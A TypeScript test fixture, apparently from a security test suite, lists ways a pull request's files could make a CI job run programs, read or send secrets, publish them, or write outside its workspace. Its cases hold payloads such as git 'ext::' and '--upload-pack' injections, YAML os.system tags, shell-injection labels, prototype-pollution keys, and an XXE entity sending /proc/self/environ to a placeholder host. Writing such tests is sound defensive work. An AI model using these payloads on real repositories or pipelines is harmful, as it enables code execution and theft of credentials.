/** A way in which the files of a pull request could make a job run, read, send, publish or write something. */
export interface Way {
  readonly way: string;
  /**
   * `<CLONE>`, `<CANARY>` (a program in the clone that leaves a mark) and `<HOST>` (a server that listens) are filled
   * in.
   */
  readonly files: Readonly<Record<string, string>>;
  /** Symbolic links, by their path. */
  readonly links?: Readonly<Record<string, string>>;
  /** Beside, or in place of, those that a job runs. */
  readonly commands?: readonly string[];
}

export const lineage = '7c0e9a52-3b1d-4f6e-9f0a-5d2c8b7e1a44';

export const settings = (ledger = '', more = '', secrets = 'CARD'): string => `version: 1
ledger: { store: git, lineage: ${lineage}${ledger === '' ? '' : `, ${ledger}`} }
secrets: [${secrets}]
${more}`;

export const environment = `vars: { domain: example.com }
ids: { https-edge/main: edghts_2AbProductionEdge, backend/shop: bkdhr_2AbProductionShop }
`;

const remote = (url: string): Way['files'] => ({
  'edgewright.yaml': settings(`remote: ${JSON.stringify(url)}`),
});

const endpoint = (field: string, name = 'evil'): string =>
  `kind: endpoint\nname: ${name}\nspec:\n  url: https://${name}.example.com\n  ${field}\n`;

const reading = (path: string): Way['files'] => ({
  'resources/evil.yaml': endpoint(`description: ${JSON.stringify(`$(file:${path})`)}`),
});

const route = (field: string): Way['files'] => ({
  'resources/evil.yaml': `kind: https-route
name: evil
spec:
  edge_id: https-edge/main
  match_type: path_prefix
  match: /evil
  backend: { backend_id: backend/shop }
  oidc: { issuer: "https://login.example.com", client_id: shop, client_secret: $(secret:CARD), scopes: [openid] }
  ${field}
`,
});

const program = '#!/bin/sh\nexec "<CANARY>" "$0"\n';
const script = "require('node:child_process').execFileSync('<CANARY>', [__filename]);\n";
const ledgerToo = ['ledger verify', 'ledger list --env production', 'doctor', 'drift --env production'];

/** A repository that comes with the files: git takes a folder with these for one. */
const repository = (folder: string, config = ''): Way['files'] => ({
  [`${folder}/HEAD`]: 'ref: refs/heads/main\n',
  [`${folder}/config`]: `[core]\n\trepositoryformatversion = 0\n\tbare = true\n${config}`,
  [`${folder}/objects/keep`]: '',
  [`${folder}/refs/keep`]: '',
  ...Object.fromEntries(
    ['pre-receive', 'update', 'post-receive', 'post-update', 'reference-transaction', 'push-to-checkout'].map(
      (hook) => [`${folder}/hooks/${hook}`, program],
    ),
  ),
});

const drivers = `[core]
\tfsmonitor = <CANARY>
\thooksPath = hooks
\tpager = <CANARY>
\tsshCommand = <CANARY>
\taskPass = <CANARY>
[diff "evil"]
\tcommand = <CANARY>
\ttextconv = <CANARY>
[filter "evil"]
\tclean = <CANARY>
\tsmudge = <CANARY>
\tprocess = <CANARY>
[credential]
\thelper = !<CANARY>
[url "<HOST>/"]
\tinsteadOf = https://
`;

export const ways: readonly Way[] = [
  // Run.
  ...['./evil.git', 'evil.git', '<CLONE>/evil.git', 'file://<CLONE>/evil.git', 'resources/../evil.git'].map(
    (url) => ({
      way: `ledger.remote is ${url}, a repository with hooks`,
      files: { ...remote(url), ...repository('evil.git') },
      commands: ledgerToo,
    }),
  ),
  {
    way: 'ledger.remote is a transport that runs a program',
    files: remote('ext::<CANARY> %S'),
    commands: ledgerToo,
  },
  { way: 'ledger.remote is an option of git', files: remote('--upload-pack=<CANARY>'), commands: ledgerToo },
  {
    way: 'ledger.remote is an option of ssh',
    files: remote('ssh://-oProxyCommand=<CANARY>/x'),
    commands: ledgerToo,
  },
  {
    way: 'ledger.branch is an option of git',
    files: { 'edgewright.yaml': settings('branch: "--receive-pack=<CANARY>"') },
    commands: ledgerToo,
  },
  {
    way: 'attributes and a configuration with drivers',
    files: {
      '.gitattributes': '* diff=evil filter=evil merge=evil textconv=evil\n',
      '.gitconfig': drivers,
      gitconfig: drivers,
    },
    commands: ['lint --staged', 'lint --changed-since origin/main'],
  },
  {
    way: 'a submodule that updates by a program',
    files: { '.gitmodules': '[submodule "x"]\n\tpath = x\n\turl = ext::<CANARY>\n\tupdate = !<CANARY>\n' },
    commands: ['lint --staged', 'lint --changed-since origin/main'],
  },
  {
    way: 'hooks in the folders of hook managers',
    files: Object.fromEntries(
      ['.githooks', '.husky', '.husky/_', 'hooks'].flatMap((folder) =>
        ['pre-commit', 'pre-push', 'post-checkout', 'post-index-change'].map((hook) => [
          `${folder}/${hook}`,
          program,
        ]),
      ),
    ),
    commands: ['lint --staged'],
  },
  {
    way: 'a workspace inside a repository of the files',
    files: {
      ...repository('sub', `\tworktree = .\n${drivers}`),
      'sub/edgewright.yaml': settings(),
      'sub/environments/production.yaml': environment,
      'sub/resources/a.yaml': endpoint('description: x'),
    },
    commands: [
      'lint -C sub --staged',
      'lint -C sub --changed-since origin/main',
      'plan -C sub --env production --base origin/main',
      'apply -C sub --env production --yes',
    ],
  },
  {
    way: 'scripts of a package, and configuration that is code',
    files: {
      'package.json': `{"name":"x","type":"module","main":"x.js","imports":{"#x":"./x.js"},"scripts":{"prepare":"<CANARY>","preinstall":"<CANARY>","edgewright":"<CANARY>"}}\n`,
      ...Object.fromEntries(
        [
          'edgewright.config.js',
          'edgewright.config.cjs',
          '.edgewrightrc.js',
          'x.js',
          '.prettierrc.js',
          '.pnp.cjs',
        ].map((file) => [file, script]),
      ),
    },
  },
  {
    way: 'options of Node in a file',
    files: {
      '.npmrc': 'node-options=--require=./evil.js\nscript-shell=<CANARY>\nregistry=<HOST>/\n',
      '.env': 'NODE_OPTIONS=--require=./evil.js\n',
      'node.config.json': '{"nodeOptions":{"require":["./evil.js"]}}\n',
      'evil.js': script,
    },
  },
  {
    way: 'packages and programs in node_modules',
    files: Object.fromEntries([
      ...['edgewright', 'yaml', 'ajv', 'undici', 'pg-native', 'encoding', 'saxes'].flatMap((name) => [
        [`node_modules/${name}/package.json`, `{"name":"${name}","main":"index.js"}\n`],
        [`node_modules/${name}/index.js`, script],
      ]),
      ...['edgewright', 'git', 'node', 'ssh', 'sh'].map((name) => [`node_modules/.bin/${name}`, program]),
    ]) as Way['files'],
    commands: ['lint --staged'],
  },
  {
    way: 'plugins of a compiler, a formatter and a linter',
    files: {
      'tsconfig.json': '{"compilerOptions":{"plugins":[{"name":"./evil.js"}]},"extends":"./evil.js"}\n',
      '.prettierrc': '{"plugins":["./evil.js"]}\n',
      'eslint.config.js': script,
      'evil.js': script,
    },
  },
  {
    way: 'programs with the names of git, ssh and node in the working directory',
    files: Object.fromEntries(
      ['git', 'git.exe', 'git.cmd', 'ssh', 'node', 'sh', 'less', 'bin/git', 'git-remote-https'].map(
        (name) => [name, program],
      ),
    ),
    commands: ['lint --staged'],
  },
  {
    way: 'settings of an editor that name programs',
    files: {
      '.vscode/settings.json':
        '{"edgewright.server.path":"<CANARY>","git.path":"<CANARY>","yaml.schemas":{"<HOST>/s.json":"*"}}\n',
      '.vscode/tasks.json': '{"tasks":[{"command":"<CANARY>","runOptions":{"runOn":"folderOpen"}}]}\n',
      '.editorconfig': 'root = true\n',
      '.nvim.lua': "os.execute('<CANARY>')\n",
    },
  },
  {
    way: 'tags that other readers of YAML run',
    files: {
      'resources/evil.yaml': `${endpoint("description: !!js/function 'function () { process.exit() }'")}  metadata: !!python/object/apply:os.system ["<CANARY>"]\n`,
    },
  },
  {
    way: 'code in an assertion',
    files: {
      'edgewright.yaml': settings(
        '',
        `policies:
  one: { assert: 'constructor.constructor("return process")().exit()', message: x, why: y }
  two: { assert: '"".constructor.constructor("process.exit()")() == ""', message: '{{ address.constructor }}', why: y }
  three: { assert: 'require("child_process").execSync("<CANARY>") == ""', message: '{{ process }}', why: y }
`,
      ),
    },
  },
  {
    way: 'code in what a shell completes',
    files: {
      'resources/evil.yaml': `kind: endpoint\nname: evil\nlabels: { team: "$(<CANARY>)", other: "\`<CANARY>\`", more: "a; <CANARY>", last: "'\\n<CANARY>\\n'" }\nspec: { url: "https://evil.example.com" }\n`,
    },
  },
  {
    way: 'keys that change prototypes',
    files: {
      'environments/production.yaml': environment.replace(
        'domain:',
        '__proto__: { shell: "<CANARY>" }, constructor: x, domain:',
      ),
      'resources/evil.yaml': endpoint('metadata: $(__proto__)'),
    },
  },
  {
    way: 'names of files that are code',
    files: {
      'environments/$(<NAME>).yaml': '',
      'environments/--config=x.yaml': '',
      'resources/;<NAME>;.yaml': endpoint('description: x'),
      'resources/::set-output name=x::y.yaml': endpoint('description: x', 'b'),
    },
    commands: [
      'lint --staged',
      'lint --format github',
      'init --with github --source your-org/edgewright@0123456789abcdef0123456789abcdef01234567 .',
    ],
  },
  // Read.
  ...[
    'secrets/CARD_2',
    './secrets//CARD_2',
    'secrets/tls.key',
    'gha-creds.json',
    '.env',
    '.git/config',
    '../outside/private.txt',
    '/proc/self/environ',
    'link.txt',
    'folder/CARD_2',
  ].map((path) => ({
    way: `$(file:${path})`,
    files: reading(path),
    links: { 'link.txt': 'secrets/CARD_2', folder: 'secrets' },
  })),
  {
    way: 'resources are all files, hidden ones too',
    files: {
      'edgewright.yaml': settings(
        '',
        'resources: ["**/*", "**/.*", ".git/**", ".*/**", ".env", "secrets/*"]\n',
      ),
    },
  },
  {
    way: 'resources are outside of the workspace',
    files: {
      'edgewright.yaml': settings('', 'resources: ["../outside/*", "/proc/self/environ", "link/*"]\n'),
    },
    links: { link: '../outside' },
  },
  {
    way: 'the baseline is a credential',
    files: { 'edgewright.yaml': settings('', 'lint: { baseline: gha-creds.json }\n') },
    commands: ['baseline prune'],
  },
  {
    way: 'variables and secrets named like those of the job',
    files: {
      'edgewright.yaml': settings('', '', 'CARD, GITHUB_TOKEN, API_TOKEN'),
      'resources/evil.yaml': `${endpoint('description: "$(GITHUB_TOKEN) $(env:GITHUB_TOKEN) ${GITHUB_TOKEN} $GITHUB_TOKEN"')}  metadata: $(secret:GITHUB_TOKEN)\n  traffic_policy: { on_http_request: [{ actions: [{ type: add-headers, config: { headers: { x-evil: "$(secret:API_TOKEN)" } } }] }] }\n`,
    },
  },
  {
    way: 'a name of a secret that is a path',
    files: {
      'edgewright.yaml': settings('', '', '../gha-creds.json, CARD'),
      ...route('request_headers: { add: { x-evil: "$(secret:../gha-creds.json)" } }'),
    },
  },
  {
    way: 'keys that include other files',
    files: {
      'edgewright.yaml': settings('', 'extends: ./gha-creds.json\ninclude: [secrets/tls.key]\n$ref: .env\n'),
      'resources/evil.yaml': `$schema: ../gha-creds.json\n${endpoint('description: { $ref: ../secrets/CARD_2 }')}`,
    },
  },
  // Send.
  ...[
    '<HOST>/evil.git',
    'http://user@<HOSTNAME>/evil.git',
    'git://<HOSTNAME>/evil.git',
    'https://<HOSTNAME>/evil.git',
  ].map((url) => ({ way: `ledger.remote is ${url}`, files: remote(url), commands: ledgerToo })),
  {
    way: 'a notification to a host of the pull request',
    files: { 'edgewright.yaml': settings('', 'notify: [{ url: "<HOST>/hook" }]\n') },
    commands: ['apply --env production --auto'],
  },
  {
    way: 'the address of the API, a proxy and a profile in files',
    files: {
      'edgewright.yaml': settings(
        '',
        'api_url: <HOST>\napi: { url: "<HOST>", token: x }\nproxy: <HOST>\nprofile: evil\n',
      ),
      'environments/staging.yaml': 'api_url: <HOST>\n',
      '.edgewright/config.yaml': 'profiles: { default: { url: "<HOST>" } }\n',
      '.config/edgewright/config.yaml': 'profiles: { default: { url: "<HOST>" } }\n',
      '.env': 'EDGEWRIGHT_API_URL=<HOST>\nHTTPS_PROXY=<HOST>\n',
    },
  },
  {
    way: 'schemas and links at a host of the pull request',
    files: {
      'edgewright.yaml': `# yaml-language-server: $schema=<HOST>/s.json\n${settings('', '$schema: <HOST>/s.json\nlint: { docs_url: "<HOST>/docs" }\n')}`,
      'resources/evil.yaml': `# yaml-language-server: $schema=<HOST>/s.json\n$schema: <HOST>/s.json\n${endpoint('description: "![](<HOST>/x.png)"')}`,
      'metadata.xml': '<!DOCTYPE x [<!ENTITY e SYSTEM "<HOST>/e">]><x>&e;</x>',
    },
  },
  {
    way: 'an entity in SAML metadata',
    files: {
      'metadata.xml':
        '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///proc/self/environ"><!ENTITY f SYSTEM "<HOST>/e">]><EntityDescriptor>&e;&f;</EntityDescriptor>',
      ...route('saml: { idp_metadata: $(file:metadata.xml) }'),
    },
  },
  // Publish.
  {
    way: 'a secret in a response header',
    files: route('response_headers: { add: { x-evil: $(secret:CARD) } }'),
  },
  ...[
    '{ type: custom-response, config: { status_code: 200, body: "x-evil $(secret:CARD)" } }',
    '{ type: redirect, config: { from: /x, to: "https://x-evil.example/$(secret:CARD)" } }',
    '{ type: basic-auth, config: { realm: "x-evil $(secret:CARD)", credentials: ["a:b"] } }',
  ].map((action) => ({
    way: `a secret in an action: ${action.slice(8, 20)}`,
    files: route(`traffic_policy: { value: { on_http_request: [{ actions: [${action}] }] } }`),
  })),
  {
    way: 'a secret in a description, metadata and a label',
    files: {
      'resources/evil.yaml': `kind: endpoint\nname: evil\nlabels: { x-evil: $(secret:CARD) }\nspec:\n  url: https://evil.example.com/$(secret:CARD)\n  description: x-evil $(secret:CARD)\n  metadata: x-evil $(secret:CARD)\n`,
    },
  },
  // Write.
  {
    way: 'a state folder that leads elsewhere',
    files: {},
    links: { '.edgewright': '../outside' },
    commands: ['apply --env production --yes --local', 'plan --env production --local'],
  },
  {
    way: 'resources that lead elsewhere',
    files: {},
    links: {
      'resources/x.yaml': '../../outside/private.txt',
      'environments/x.yaml': '../../outside/private.txt',
    },
    commands: ['fmt', 'lint --fix --unsafe'],
  },
  {
    way: 'a baseline in the folder of git',
    files: {
      'edgewright.yaml': settings('', 'lint: { baseline: .git/hooks/pre-commit.json }\n'),
      'resources/evil.yaml': endpoint('descripton: x'),
    },
    commands: ['baseline create', 'baseline prune'],
  },
];
